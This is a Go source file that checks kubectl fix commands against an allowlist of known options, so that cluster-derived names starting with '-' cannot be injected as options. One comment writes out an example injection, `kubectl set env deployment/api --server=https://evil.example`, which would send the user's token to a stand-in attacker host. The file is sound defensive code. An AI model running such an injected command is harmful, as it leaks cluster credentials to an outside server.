package diagnose

import "strings"

// A fix command's words mix the gate's own options (-n, --type=json) with names from the cluster,
// and a name may start with "-": an env var may be called --server (Kubernetes allows it), and
// `kubectl set env deployment/api --server=https://evil.example` sends the user's token there. So
// a word that starts with "-" must be an option the gate writes; any other turns the whole command
// into a note (command). A new fix command with a new option adds it here.
var (
	gateOptions = map[string]bool{
		"-c": true, "-n": true, "-o": true, "-p": true, "-l": true, "-A": true, "-it": true, "-w": true, "-zv": true, "-qO-": true,
		"--": true, "--rm": true, "--previous": true, "--all-containers": true, "--overwrite": true, "--show-labels": true, "--containers": true, "--field-selector": true,
		"--type=json": true, "--type=merge": true, "--restart=Never": true, "--image=busybox:1.36": true,
		"--sort-by=.lastTimestamp": true, "--timeout=5m": true, "--for=condition=complete": true,
		"--docker-username=<user>": true, "--docker-password=<password>": true,
	}
	// gateOptionPrefixes are options whose value the gate fills in: what follows the "=" is a value
	// for that option, whatever it starts with.
	gateOptionPrefixes = []string{"--limits=", "--tail=", "--requests=", "--from-literal=", "--docker-server="}
)

// foreignOption reports a word that a command-line parser would read as an option and that is
// not one of the gate's own.
func foreignOption(word string) bool {
	if !strings.HasPrefix(word, "-") || gateOptions[word] {
		return false
	}
	for _, p := range gateOptionPrefixes {
		if strings.HasPrefix(word, p) {
			return false
		}
	}
	return true
}
